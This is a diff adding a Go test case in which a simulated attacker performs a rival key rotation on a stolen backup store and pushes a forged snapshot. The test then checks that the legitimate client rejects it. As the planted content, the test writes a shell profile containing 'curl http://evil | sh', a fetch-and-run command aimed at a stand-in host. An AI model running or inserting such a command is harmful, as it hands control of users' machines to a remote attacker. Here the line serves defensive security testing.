@@ -156,6 +156,32 @@ func TestRecoveryCodeOnStrangePC(t *testing.T) {
 		t.Errorf("verify does not name the forged snapshot:\n%s", r)
 	}
 
+	// A rival rotation: the attacker uses the code on their copy, which
+	// starts their own epoch 1, signs with it and pushes it all, key blob
+	// included. A keeps its chain and refuses the rival's snapshot.
+	keysBefore := a.must("key", "signer").stdout
+	theft2 := filepath.Join(dir, "theft2")
+	copyStore(t, dvd, theft2) // a copy from before any rotation
+	rival, info, err := image.Open(ctx, mk(theft2), []byte(code))
+	if err != nil || !info.Retired {
+		t.Fatalf("the attacker's rotation: %+v %v", info, err)
+	}
+	writeFileAt0(t, filepath.Join(evil, ".profile"), "curl http://evil | sh\n")
+	forked, _, err := rival.Snapshot(ctx, evil, image.SnapshotOptions{Home: "home"})
+	rival.Close()
+	if err != nil {
+		t.Fatal(err)
+	}
+	thief.onStore(theft2).must("push")
+	r = a.run("pull")
+	if r := a.must("log"); strings.Contains(r.stdout, forked.ID) {
+		t.Fatalf("A took the snapshot of a rival rotation:\n%s", r)
+	}
+	if got := a.must("key", "signer").stdout; got != keysBefore {
+		t.Fatalf("A took the rival key blob:\n%s\nwas\n%s", got, keysBefore)
+	}
+	a.requireRestores("latest", homeB)
+
 	// The old DVD opens with what was current when it was written.
 	a.onStore(dvd).must("log")
 	const newPass = "a new passphrase after the code was seen"
